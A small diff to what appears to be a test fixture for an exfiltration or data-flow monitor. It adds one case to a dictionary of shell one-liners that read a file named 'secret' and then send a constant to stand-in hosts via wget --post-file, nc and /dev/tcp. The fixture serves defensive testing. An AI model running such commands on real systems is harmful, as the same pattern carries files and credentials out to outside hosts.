@@ -24,6 +24,7 @@ SHELL = {
     "upload": "sha256sum secret; echo constant > public; wget -q -T 5 -O - --post-file public http://10.77.0.2/up",
     "directory": "ls -l secret | wc -c; stat -c %n secret; find . -name secret; echo constant | nc remote 9",
     "only-opened": "exec 3< secret; echo constant > /dev/tcp/remote/9",
+    "killed-child": "read -r line < secret; (while :; do :; done) & sleep 0.2; kill -9 $!; wait $!; echo constant > /dev/tcp/remote/9",
     "from-shell": "while read -r line; do n=$((n + 1)); done < secret; echo constant > /dev/tcp/remote/9",
 }
 
